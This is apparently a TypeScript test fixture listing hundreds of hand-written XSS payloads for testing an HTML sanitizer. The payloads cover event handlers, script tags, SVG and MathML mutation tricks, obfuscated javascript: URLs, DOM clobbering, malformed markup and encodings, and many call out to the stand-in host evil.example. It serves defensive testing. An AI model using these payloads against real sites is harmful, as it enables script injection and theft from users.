/** The code of the payloads. It sets a mark on the page and opens a dialog. */
const RUN = `top.ran=1;alert(1)`;
const EVIL = 'https://evil.example/stolen';

const lines = (text: string): string[] =>
  text
    .trim()
    .split('\n')
    .map((line) =>
      line
        .trim()
        .replaceAll('RUN', () => RUN)
        .replaceAll('EVIL', () => EVIL),
    );

const EVENTS = lines(`
  <img src=x onerror="RUN">
  <img src=x onerror=RUN//
  <IMG SRC=x OnErRoR="RUN">
  <img/src=x/onerror="RUN">
  <img src=x onerror\t=\t"RUN">
  <img src=x onerror\u000c="RUN">
  <img src=x\u0000onerror="RUN">
  <img src="x" \u0000onerror="RUN">
  <img src=x:x onerror="&#x74;op.ran=1">
  <p onclick="RUN" onmouseover="RUN">a</p>
  <p onpointerenter=RUN onanimationstart=RUN style="animation:x 1s">a</p>
  <a href="/faq" onfocus="RUN" autofocus>a</a>
  <a href="/faq" onfocus="RUN" tabindex=0 id=x>a</a>
  <body onload="RUN">
  <body onpageshow="RUN" onhashchange="RUN">
  <details open ontoggle="RUN">a</details>
  <input autofocus onfocus="RUN">
  <select autofocus onfocus="RUN"><option>a</select>
  <textarea autofocus onfocus="RUN">a</textarea>
  <video src=x onerror="RUN"></video>
  <video><source onerror="RUN"></video>
  <audio src=x onerror="RUN">
  <marquee onstart="RUN">a</marquee>
  <keygen autofocus onfocus="RUN">
  <object data="data:text/html,x" onload="RUN"></object>
  <style onload="RUN"></style>
  <link rel=stylesheet href="data:text/css," onload="RUN">
  <iframe onload="RUN"></iframe>
  <frameset onload="RUN"><frame></frameset>
  <ul onwheel=RUN><li onbeforeinput=RUN contenteditable>a</ul>
  <p popover id=a onbeforetoggle="RUN">a</p><button popovertarget=a>b</button>
  <div oncontentvisibilityautostatechange="RUN" style="display:block;content-visibility:auto">a</div>
`);

const SCRIPTS = lines(`
  <script>RUN</script>
  <SCRIPT>RUN</SCRIPT>
  <script src="EVIL.js"></script>
  <script/src=//evil.example/x.js></script>
  <script>RUN
  <script type=module>RUN</script>
  <script type="text/javascript" >RUN</script >
  <script\u0009>RUN</script>
  <scr<script>ipt>RUN</scr</script>ipt>
  <<script>RUN//<</script>
  <script><!--
  <script>/*</script><script>*/RUN</script>
  </script><script>RUN</script>
  </p></li></ul></main></body></html><script>RUN</script>
  <noscript><p title="</noscript><script>RUN</script>">
  <noscript><img title="</noscript><img src=x onerror=RUN>"></noscript>
  <title></title><script>RUN</script>
  <title><a title="</title><img src=x onerror=RUN>">
  <textarea></textarea><script>RUN</script>
  <textarea><a title="</textarea><img src=x onerror=RUN>">
  <xmp><a title="</xmp><img src=x onerror=RUN>"></xmp>
  <noembed><a title="</noembed><img src=x onerror=RUN>"></noembed>
  <noframes><a title="</noframes><img src=x onerror=RUN>"></noframes>
  <plaintext><script>RUN</script>
  <listing>&lt;img src=x onerror=RUN&gt;</listing>
  <template><script>RUN</script></template>
  <template shadowrootmode=open><img src=x onerror=RUN></template>
`);

const FOREIGN = lines(`
  <svg onload="RUN">
  <svg><script>RUN</script></svg>
  <svg><script href="data:text/javascript,RUN"/></svg>
  <svg><script>&#116;op.ran=1</script></svg>
  <svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>
  <svg><animate onbegin="RUN" attributeName=x dur=1s>
  <svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>a</text></a></svg>
  <svg><set attributeName=onmouseover to="RUN"/></svg>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
  <svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
  <svg><style><img src=x onerror=RUN></style></svg>
  <svg><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></svg>
  <svg></p><style><a id="</style><img src=x onerror=RUN>">
  <svg><p><style><a title="</style><img src=x onerror=RUN>">
  <svg><desc><b><img src=x onerror=RUN></b></desc></svg>
  <svg><title><img src=x onerror=RUN></title></svg>
  <svg><![CDATA[><img src=x onerror=RUN>]]></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></mtext></math>
  <math><mi//xlink:href="data:x,<script>RUN</script>">
  <math href="javascript:RUN">a</math>
  <math><maction actiontype="statusline#EVIL" xlink:href="javascript:RUN">a</maction></math>
  <math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
  <math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form>
  <math></p><style><!--</style><img src/onerror=RUN>--></style></math>
  <mglyph><style><img src=x onerror=RUN></style></mglyph>
  <svg:script>RUN</svg:script><html:script>RUN</html:script>
  <x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
`);

const LINKS = lines(`
  <a href="javascript:RUN">a</a>
  <a href="JaVaScRiPt:RUN">a</a>
  <a href=" javascript:RUN">a</a>
  <a href="\u0001javascript:RUN">a</a>
  <a href="java\tscript:RUN">a</a>
  <a href="java&#10;script:RUN">a</a>
  <a href="java&Tab;script:RUN">a</a>
  <a href="java&NewLine;script&colon;RUN">a</a>
  <a href="&#x6A;&#97vascript:RUN">a</a>
  <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099ript:RUN">a</a>
  <a href="javascript&#58;RUN">a</a>
  <a href=javascript:RUN>a</a>
  <a href='javascript:RUN'>a</a>
  <a href=\`javascript:RUN\`>a</a>
  <a href="/faq" href="javascript:RUN">a</a>
  <a href="javascript:RUN" href="/faq">a</a>
  <a HREF="javascript:RUN">a</a>
  <a title="href=/faq" href="javascript:RUN">a</a>
  <a data-href="/faq" href="javascript:RUN">a</a>
  <a href="vbscript:RUN">a</a>
  <a href="livescript:RUN">a</a>
  <a href="data:text/html,<script>RUN</script>">a</a>
  <a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">a</a>
  <a href="blob:https://evil.example/x">a</a>
  <a href="filesystem:https://evil.example/x">a</a>
  <a href="file:///etc/passwd">a</a>
  <a href="chrome-extension://bafgphpbbaibellfnfphcombhhnhcpmi/x.html">a</a>
  <a href="view-source:EVIL">a</a>
  <a href="//evil.example/">a</a>
  <a href="/\\evil.example/">a</a>
  <a href="\\\\evil.example/">a</a>
  <a href="/\t/evil.example/">a</a>
  <a href="https:javascript:RUN">a</a>
  <a href="https://a.example/&quot; onclick=&quot;RUN">a</a>
  <a href="https://a.example/' onclick='RUN">a</a>
  <a href="https://a.example/><img src=x onerror=RUN>">a</a>
  <a href="mailto:a@b.example?subject=<script>RUN</script>">a</a>
  <a href="\u202Ejavascript:RUN">a</a>
  <a href="ｊａｖａｓｃｒｉｐｔ:RUN">a</a>
  <a href="java\u00ADscript:RUN">a</a>
  <a href="jav\u200Bascript:RUN">a</a>
  <a href="javascript://%0aRUN">a</a>
  <a href="javascript:/*--></title></style></textarea></script><svg onload=RUN>">a</a>
  <a href="/faq" ping="EVIL" target=_blank download>a</a>
  <a xlink:href="javascript:RUN">a</a>
  <area href="javascript:RUN"><map name=x><area href=javascript:RUN></map>
`);

const PAGES = lines(`
  <base href="//evil.example/">
  <base target="_parent"><a href="/faq">a</a>
  <meta http-equiv="refresh" content="0;url=EVIL">
  <meta http-equiv="refresh" content="0;javascript:RUN">
  <meta http-equiv=set-cookie content="a=b">
  <meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-
  <link rel=stylesheet href="EVIL.css">
  <link rel=import href="EVIL.html">
  <link rel=preload as=script href="EVIL.js"><link rel=dns-prefetch href="//evil.example">
  <link rel=manifest href="EVIL.json">
  <iframe src="javascript:RUN"></iframe>
  <iframe srcdoc="<script>top.ran=1</script>"></iframe>
  <iframe src="EVIL"></iframe>
  <embed src="EVIL.swf" allowscriptaccess=always>
  <object data="javascript:RUN"></object>
  <object type="text/html" data="EVIL"><param name=x value=EVIL></object>
  <applet code=EVIL></applet>
  <portal src="EVIL"></portal><fencedframe></fencedframe>
  <form action="EVIL"><input name=q><button>a</button></form>
  <form action="javascript:RUN"><button>a</button></form>
  <button formaction="javascript:RUN">a</button>
  <input type=image src=x onerror=RUN formaction=EVIL>
  <isindex action="javascript:RUN" type=submit>
  <dialog open><form method=dialog><button>a</button></form></dialog>
  <img src="EVIL.png">
  <img srcset="EVIL.png 1x" src=data:,>
  <picture><source srcset="EVIL.png"><img></picture>
  <video poster="EVIL.png" autoplay></video>
  <table background="EVIL.png"><tr><td background="EVIL.png">a</table>
  <body background="EVIL.png" bgcolor=red>
  <bgsound src="EVIL.wav"><layer src=EVIL></layer>
  <html manifest="EVIL"><head profile=EVIL>
`);

const STYLES = lines(`
  <p style="position:fixed;inset:0;background:url(EVIL)">a</p>
  <p style="width:expression(RUN)">a</p>
  <p style="-moz-binding:url(EVIL)">a</p>
  <p style="behavior:url(EVIL)">a</p>
  <style>@import url(EVIL.css);*{display:none}</style>
  <style><a title="</style><img src=x onerror=RUN>">
  <style>a{}</style >b<style/><img src=x onerror=RUN>
  <div class="shell-nav" id="root" style="all:unset">a</div>
  <p is="evil-element" slot=a part=b exportparts=c nonce=d>a</p>
`);

const CLOBBERING = lines(`
  <a id=location name=location href="EVIL">a</a>
  <form id=document><input name=cookie></form>
  <img name=getElementById><img name=body>
  <a id=config><a id=config name=url href="EVIL">a</a>
  <p id=__proto__>a</p><p id=constructor>b</p>
  <iframe name=top></iframe><object id=self></object>
  <form id=attributes><input id=attributes><input name=removeAttribute></form>
`);

const NESTING = lines(`
  <p><b><i><u></p></b></i></u><img src=x onerror=RUN>
  <table><tr><td><a href=/x><table><a href="javascript:RUN">a</table>
  <a href="/x"><a href="javascript:RUN">a</a></a>
  <h2><h3><h4></h2></h3></h4><p onclick=RUN>a
  <li><ul><li><ol><script>RUN</script></ol>
  <p title="<img src=x onerror=RUN>">a</p>
  <p title='"><img src=x onerror=RUN>'>a</p>
  <p title=\`"><img src=x onerror=RUN>\`>a</p>
  <p a="'" b='"><img src=x onerror=RUN>'>a</p>
  <p =">" onclick=RUN>a</p>
  <p "<img src=x onerror=RUN>">a</p>
  <p/a/onclick=RUN>a</p>
  <p <img src=x onerror=RUN>>a</p>
  < img src=x onerror=RUN>
  <\u0000img src=x onerror=RUN>
  <img\u0000 src=x onerror=RUN>
  <3 src=x onerror=RUN><img src=x onerror=RUN>
  </<img src=x onerror=RUN>
  <!<img src=x onerror=RUN>
  <?xml version="1.0"?><?php RUN ?><img src=x onerror=RUN>
  <%<img src=x onerror=RUN>%>
  <!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
`);

const COMMENTS = lines(`
  <!--<img src=x onerror=RUN>-->
  <!--><img src=x onerror=RUN>-->
  <!---><img src=x onerror=RUN>-->
  <!--x--!><img src=x onerror=RUN>-->
  <!--x--><img src=x onerror=RUN>
  <!-- <p title="--><img src=x onerror=RUN>">
  <!--[if gte IE 4]><script>RUN</script><![endif]-->
  <![CDATA[<img src=x onerror=RUN>]]>
  <comment><img src="</comment><img src=x onerror=RUN>">
`);

const ENCODED = lines(`
  &lt;img src=x onerror=RUN&gt;
  &amp;lt;img src=x onerror=RUN&amp;gt;
  &#60;script&#62;RUN&#60;/script&#62;
  &LT;script&GT;RUN&LT;/script&GT;
  %3Cscript%3ERUN%3C/script%3E
  \\u003cscript\\u003eRUN\\u003c/script\\u003e
  \\x3cscript\\x3eRUN\\x3c/script\\x3e
  ＜script＞RUN＜/script＞
  ¼script¾RUN¼/script¾
  a\uFEFF<script>RUN</script>
  <ſcript>RUN</ſcript>
  <ımg src=x onerror=RUN>
  a\u2028<img src=x onerror=RUN>\u2029
  {{constructor.constructor('RUN')()}}
  \${RUN}
  $& $' $\` $1 <img src=x onerror=RUN>
  %ORIGIN%<live-part name="plans"></live-part><img src=x onerror=RUN>
`);

/** Examples of attacks on an HTML sanitizer, all written by us: the family and the HTML. */
export const htmlFamilies: readonly { kind: string; html: string }[] = Object.entries({
  EVENTS,
  SCRIPTS,
  FOREIGN,
  LINKS,
  PAGES,
  STYLES,
  CLOBBERING,
  NESTING,
  COMMENTS,
  ENCODED,
}).flatMap(([kind, payloads]) => payloads.map((html) => ({ kind: kind.toLowerCase(), html })));

/** Variants of a payload: alone, nested in other elements, unclosed, and in capitals. */
export const placesOf = (html: string): string[] => [
  html,
  `<ul><li><a href="/x">${html}</a></li></ul>`,
  `<blockquote><pre><code>${html}`,
  html.toUpperCase(),
];
